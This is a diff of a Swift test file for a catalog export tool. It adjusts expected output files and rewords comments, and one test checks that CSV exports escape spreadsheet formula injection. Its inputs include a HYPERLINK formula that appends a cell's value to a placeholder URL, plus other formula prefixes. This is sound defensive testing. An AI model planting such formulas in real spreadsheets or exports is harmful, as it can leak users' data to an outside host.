@@ -37,8 +37,8 @@ import Testing
     arguments: [
       (.html, "page.html", ["page.html", "page.css"]), (.html, "page", ["page", "page.css"]),
       (.html, "a.b.html", ["a.b.html", "a.b.css"]), (.html, ".page", [".page", ".page.css"]),
-      (.xcassets, "A.xcassets", ["A.xcassets", "A.names.json", "A.swift"]),
-      (.android, "res", ["res", "res.names.json", "res.kt"]),
+      (.xcassets, "A.xcassets", ["A.xcassets", "A.names.json"]),
+      (.android, "res", ["res", "res.names.json"]),
       (.csv, "rows.csv", ["rows.csv"]), (.jsonl, "rows", ["rows"]),
     ] as [(CatalogExport.Form, String, [String])])
   func nothingIsReplaced(
@@ -151,7 +151,7 @@ import Testing
     #expect(small.folder.files(below: "").allSatisfy { $0.hasPrefix("out/") })
   }
 
-  /// The file for high dynamic range alone is no variant: most screens could not show it.
+  /// The file for high dynamic range alone is not a variant: most screens could not show it.
   @Test(arguments: [(CatalogExport.Form.html, "page.html"), (.csv, "rows.csv")])
   func aVariantHasAnOrdinaryFile(_ form: CatalogExport.Form, _ name: String) async throws {
     var file = try small.make("a")
@@ -206,7 +206,7 @@ import Testing
     #expect(database.range(of: Data(extra.utf8)) != nil)
   }
 
-  /// A description that people upload is no formula of a spreadsheet (OWASP, CSV Injection).
+  /// A description that people upload is not a formula of a spreadsheet (OWASP, CSV Injection).
   @Test(arguments: [
     (#"=HYPERLINK(\"http://a\"&A1)"#, #""'=HYPERLINK(""http://a""&A1)""#), ("+1", "'+1"),
     ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), (#"\t=1"#, "'\t=1"), (#"\r=1"#, "\"'\r=1\""),
